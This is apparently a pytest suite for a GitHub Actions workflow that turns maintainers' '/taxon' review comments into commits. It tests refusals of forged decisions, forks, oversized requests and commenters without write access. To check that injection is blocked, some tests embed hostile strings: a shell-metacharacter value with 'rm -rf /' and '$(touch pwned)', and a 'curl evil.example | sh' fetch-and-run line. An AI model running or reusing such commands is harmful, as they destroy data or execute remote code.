"""decisions.yml through its own `run:` steps (runner.py) on real git repositories and a stand-in
for GitHub (fake_github.py): a maintainer's `/taxon keep|drop|fix` comment becomes a commit on
the pull request's branch, or a reply saying why not; every pull request's changed decisions
must be a maintainer's. The hostile cases: a forged author, a decision in a contributor's pull
request, shell metacharacters, 10,000 ids, a commenter without write access, a fork, an id of
no sample, a branch that moved on."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
import yaml
from fake_github import FakeGitHub
from runner import Runner, job_runner

from review.review_fixtures import write_gen_out
from support.github_payloads import collaborator, comment_event, pull_request
from support.taxonomy_repo import add_leaf, commit_all, git, make_repo
from taxon.qna.decisions import decision_for, load_leaf_decisions, row_sample_id, write_decision
from taxon.qna.samples import answer_of, question_of

REPO_ROOT = Path(__file__).resolve().parents[2]
WORKFLOW = REPO_ROOT / ".github" / "workflows" / "decisions.yml"
PR = 7
LEAF = "compositional_skills/writing/haiku"


@pytest.fixture
def pr(tmp_path):
    """upstream: main, and a pull request branch `contribution` of this repository (head at
    refs/pull/7/head); the samples job's dataset for that head, as an artifact of a run of
    samples.yml; a maintainer `maintainer` and a contributor `contributor`."""
    upstream = make_repo(tmp_path)
    git(upstream, "checkout", "-q", "-b", "contribution")
    add_leaf(upstream, "compositional_skills/grounded/new_dates")
    head = commit_all(upstream, "contribution")
    git(upstream, "update-ref", f"refs/pull/{PR}/head", head)
    git(upstream, "checkout", "-q", "main")

    github = FakeGitHub(tmp_path / "github")
    samples = tmp_path / "artifact"
    dataset = write_gen_out(samples / "dataset")
    (samples / "review.html").write_text("<!DOCTYPE html>")
    run = github.add_run(head, event="issue_comment", path=".github/workflows/samples.yml", head_branch="main")
    artifact = github.upload_artifact(run, f"samples-pr{PR}-{head}", samples)
    repo = github.repository
    github.update_routes(
        {
            f"repos/{repo}/actions/artifacts": {"artifacts": [artifact]},
            f"repos/{repo}/actions/runs/{run['id']}": run,
            f"repos/{repo}/collaborators/maintainer/permission": collaborator("maintainer"),
            f"repos/{repo}/collaborators/contributor/permission": collaborator("contributor", write=False),
            f"repos/{repo}/pulls/{PR}": _pull(head, github.repository_id),
            f"repos/{repo}/issues/{PR}/comments": [],
        }
    )
    return {"upstream": upstream, "github": github, "head": head, "dataset": dataset, "root": tmp_path, "run": run}


def _pull(head: str, repository_id: int, **changes) -> dict:
    return pull_request(PR, head, "contribution", repository_id, **changes)


def _rows(dataset: Path) -> list[dict]:
    rows = []
    for name in ("samples.jsonl", "dropped.jsonl"):
        rows += [json.loads(line) for line in (dataset / LEAF / name).read_text().splitlines()]
    return [row for row in rows if row["metadata"]["source"] == "generated"]


def _runner(pr: dict, name: str, event_name: str, event: dict) -> Runner:
    return job_runner(
        pr["root"], pr["upstream"], name, pr["github"], event_name, event, extra_env={"GH_TOKEN": "fake-token"}
    )


def _comment_event(pr: dict, body: str, sender: str = "maintainer") -> dict:
    github = pr["github"]
    return comment_event(PR, body, sender, github.repository, github.repository_id)


def _decide(pr: dict, body: str, sender: str = "maintainer", name: str = "decide") -> tuple[list, Runner]:
    """The comment, as GitHub records it, then the decide job's steps."""
    pr["github"].add_comment(PR, sender, body)
    runner = _runner(pr, name, "issue_comment", _comment_event(pr, body, sender))
    return runner.run_job(WORKFLOW, "decide"), runner


def _posted(pr: dict, path_end: str) -> list[dict]:
    return [
        json.loads(call["input"])
        for call in pr["github"].calls()
        if "--method" in call["args"] and call["args"][3].endswith(path_end)
    ]


def _branch(pr: dict) -> str:
    return git(pr["upstream"], "rev-parse", "contribution")


def _check(pr: dict, head: str, name: str = "check") -> list:
    event = {
        "action": "synchronize",
        "pull_request": {"number": PR, "head": {"sha": head}, "base": {"ref": "main"}},
        "repository": {"default_branch": "main"},
    }
    git(pr["upstream"], "update-ref", f"refs/pull/{PR}/head", head)
    return _runner(pr, name, "pull_request_target", event).run_job(WORKFLOW, "check")


def test_a_maintainers_comment_is_committed_to_the_branch(pr):
    rows = _rows(pr["dataset"])
    keep, drop, fix = (row_sample_id(row) for row in rows[:3])
    body = (
        f"Looked at them.\n\n/taxon keep {keep}\n/taxon drop {drop} it repeats the seed\n"
        f"/taxon fix {fix} Soft rain on the roof; the gutters hum along\n"
    )
    results, runner = _decide(pr, body)
    assert [r.returncode for r in results] == [0, 0], [(r.name, r.stdout, r.stderr) for r in results]

    commit = _branch(pr)
    assert git(pr["upstream"], "rev-parse", f"{commit}^") == pr["head"]  # one commit on the head
    assert git(pr["upstream"], "log", "-1", "--format=%an <%ae>", commit).startswith("github-actions[bot] <")
    changed = git(pr["upstream"], "diff", "--name-only", pr["head"], commit).split()
    assert changed == sorted(f"decisions/{LEAF}/{sample}.yaml" for sample in (keep, drop, fix))
    git(pr["upstream"], "worktree", "add", "-q", str(pr["root"] / "after"), commit)
    decisions = load_leaf_decisions(pr["root"] / "after" / "decisions", LEAF)
    assert {s: (d.action, d.by) for s, d in decisions.items()} == {
        keep: ("keep", "maintainer"),
        drop: ("drop", "maintainer"),
        fix: ("fix", "maintainer"),
    }
    assert decisions[drop].reason == "it repeats the seed"
    assert decisions[fix].fixed_answer == "Soft rain on the roof; the gutters hum along"
    assert decisions[fix].question == question_of(rows[2]) and decisions[fix].answer == answer_of(rows[2])

    (reply,) = _posted(pr, f"issues/{PR}/comments")
    assert "**3 decisions by `maintainer` committed** to `contribution`" in reply["body"]
    (status,) = _posted(pr, f"statuses/{commit}")
    assert status["state"] == "success" and status["context"] == "taxon/decisions"
    assert git(runner.workspace, "rev-parse", "--abbrev-ref", "HEAD") == "main"  # the work tree never moved
    assert not git(runner.workspace, "status", "--porcelain")

    # the check job on the new head agrees: each decision was commanded by the maintainer it names
    checked = _check(pr, commit)
    assert [r.returncode for r in checked] == [0, 0], [(r.name, r.stdout) for r in checked]
    assert _posted(pr, f"statuses/{commit}")[-1]["state"] == "success"


def test_shell_metacharacters_are_text(pr):
    sample = row_sample_id(_rows(pr["dataset"])[0])
    answer = "$(touch pwned) `touch pwned2`; rm -rf / && echo \"$HOME\" | cat > x || ${IFS} 'q' \\ <b>"
    # as a maintainer writes it in markdown: the backticks and the tag escaped, so GitHub shows them
    written = answer.replace("`", "\\`").replace("<b>", "\\<b>")
    results, runner = _decide(pr, f"/taxon fix {sample} {written}")
    assert [r.returncode for r in results] == [0, 0], [(r.name, r.stdout, r.stderr) for r in results]
    shown = git(pr["upstream"], "show", f"contribution:decisions/{LEAF}/{sample}.yaml")
    assert yaml.safe_load(shown)["fixed_answer"] == answer
    for folder in (runner.workspace, runner.temp, pr["upstream"], Path.cwd()):
        assert not list(folder.rglob("pwned*")) and not (folder / "x").exists()


def test_markdown_in_a_fix_is_refused_not_guessed(pr):
    sample = row_sample_id(_rows(pr["dataset"])[0])
    results, _ = _decide(pr, f"/taxon fix {sample} The plural is `geese` <b>now</b>")
    _refused(pr, results, "holds markdown (code, a link, emphasis, HTML)")


def _refused(pr: dict, results: list, message: str) -> str:
    assert results[-1].returncode == 1
    assert "::error title=Decisions not applied::" in results[-1].stdout
    assert _branch(pr) == pr["head"]  # nothing committed
    (reply,) = _posted(pr, f"issues/{PR}/comments")
    assert "**Decisions not applied**" in reply["body"] and "Nothing was committed" in reply["body"]
    assert message in reply["body"], reply["body"]
    return reply["body"]


def test_ten_thousand_ids_are_refused_whole(pr):
    ids = " ".join(f"{number:012x}" for number in range(10_000))
    results, _ = _decide(pr, f"/taxon drop {ids}")
    _refused(pr, results, "one comment decides on at most 50")


def test_an_id_of_no_sample_refuses_the_comment(pr):
    real = row_sample_id(_rows(pr["dataset"])[0])
    results, _ = _decide(pr, f"/taxon drop {real}\n/taxon drop 0123456789ab")
    _refused(pr, results, "no sample 0123456789ab among this head")


def test_a_commenter_without_write_access_is_refused(pr):
    sample = row_sample_id(_rows(pr["dataset"])[0])
    results, _ = _decide(pr, f"/taxon keep {sample}", sender="contributor")
    _refused(pr, results, "'contributor' has no write access")


def test_a_fork_branch_is_refused_with_what_to_do(pr):
    github = pr["github"]
    github.update_routes({f"repos/{github.repository}/pulls/{PR}": _pull(pr["head"], 999)})
    sample = row_sample_id(_rows(pr["dataset"])[0])
    results, _ = _decide(pr, f"/taxon keep {sample}")
    body = _refused(pr, results, "in a fork")
    assert "taxon review decide" in body


def test_samples_from_a_run_of_another_workflow_are_not_used(pr):
    github = pr["github"]
    run_path = f"repos/{github.repository}/actions/runs/{pr['run']['id']}"
    github.update_routes({run_path: {**pr["run"], "path": ".github/workflows/pull-request.yml"}})
    sample = row_sample_id(_rows(pr["dataset"])[0])
    results, _ = _decide(pr, f"/taxon keep {sample}")
    _refused(pr, results, "no samples were generated for the pull request")


def test_a_branch_that_moved_on_refuses_the_push(pr):
    git(pr["upstream"], "checkout", "-q", "contribution")
    (pr["upstream"] / "taxonomy" / "later.txt").write_text("a later push\n")
    commit_all(pr["upstream"], "a push while the maintainer was deciding")
    moved = _branch(pr)
    git(pr["upstream"], "checkout", "-q", "main")
    sample = row_sample_id(_rows(pr["dataset"])[0])
    results, _ = _decide(pr, f"/taxon keep {sample}")
    assert results[-1].returncode == 1 and "moved on" in results[-1].stdout
    assert _branch(pr) == moved


def test_a_decision_in_a_contributors_pull_request_is_refused(pr):
    """The contributor writes decisions themselves: one in their own name (no write access),
    one forged in the maintainer's (no comment of the maintainer's commands it), and removes one."""
    rows = _rows(pr["dataset"])
    git(pr["upstream"], "checkout", "-q", "contribution")
    root = pr["upstream"] / "decisions"
    for row, by in ((rows[0], "contributor"), (rows[1], "maintainer")):
        write_decision(root, decision_for(row, "keep", by))
    head = commit_all(pr["upstream"], "keep my samples")
    git(pr["upstream"], "checkout", "-q", "main")
    pr["github"].add_comment(PR, "maintainer", f"/taxon drop {row_sample_id(rows[1])}")  # not the keep the file claims

    results = _check(pr, head)
    assert results[-1].returncode == 1
    out = results[-1].stdout
    assert "by 'contributor', who has no write access here" in out
    assert "claims to be by 'maintainer', who neither opened this pull request nor commented" in out
    assert out.count("::error file=decisions/") == 2 and "R005" in out
    status = _posted(pr, f"statuses/{head}")[-1]
    assert status["state"] == "failure" and "2 decision(s) not made by a maintainer" in status["description"]


def test_removing_a_maintainers_decision_needs_a_maintainers_pull_request(pr):
    write_decision(pr["upstream"] / "decisions", decision_for(_rows(pr["dataset"])[0], "drop", "maintainer"))
    commit_all(pr["upstream"], "a decision on main")
    git(pr["upstream"], "update-ref", "refs/remotes/origin/main", "main")
    git(pr["upstream"], "checkout", "-q", "-b", "undo")
    shutil.rmtree(pr["upstream"] / "decisions")
    head = commit_all(pr["upstream"], "un-drop it")
    git(pr["upstream"], "checkout", "-q", "main")
    results = _check(pr, head)
    assert results[-1].returncode == 1
    assert "removes a maintainer's decision; contributor is no maintainer" in results[-1].stdout

    github = pr["github"]
    github.update_routes(
        {f"repos/{github.repository}/pulls/{PR}": _pull(head, github.repository_id, user={"login": "maintainer"})}
    )
    assert _check(pr, head, "check-again")[-1].returncode == 0


def test_an_unknown_command_gets_a_reply_and_changes_nothing(pr):
    results, _ = _decide(pr, "/taxon dorp 0123456789ab; curl evil.example | sh")
    body = _refused(pr, results, "unknown command")
    assert "`/taxon dorp 0123456789ab; curl evil.example | sh`" in body or "dorp" in body


def test_a_dry_run_commits_nothing_and_posts_nothing(pr):
    sample = row_sample_id(_rows(pr["dataset"])[0])
    body = f"/taxon drop {sample}"
    pr["github"].add_comment(PR, "maintainer", body)
    runner = _runner(pr, "dry", "issue_comment", _comment_event(pr, body))
    runner.extra_env["TAXON_DRY_RUN"] = "true"
    results = runner.run_job(WORKFLOW, "decide")
    assert [r.returncode for r in results] == [0, 0], [(r.name, r.stdout, r.stderr) for r in results]
    assert "was not pushed to contribution" in results[-1].stdout
    assert _branch(pr) == pr["head"] and not [c for c in pr["github"].calls() if "--method" in c["args"]]
    assert "**1 decisions by `maintainer` committed**" in runner.summary_file.read_text()
